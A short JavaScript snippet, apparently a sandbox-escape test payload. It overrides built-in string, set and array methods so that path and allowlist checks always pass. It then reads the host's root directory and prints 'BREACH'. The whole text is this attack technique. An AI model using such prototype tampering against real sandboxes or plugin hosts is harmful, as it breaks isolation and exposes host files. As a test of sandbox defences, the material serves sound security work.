String.prototype.startsWith = () => false
String.prototype.slice = () => 'path'
Set.prototype.has = () => false
Array.prototype.some = () => false
console.log('BREACH', require('fs').readdirSync('/').length)
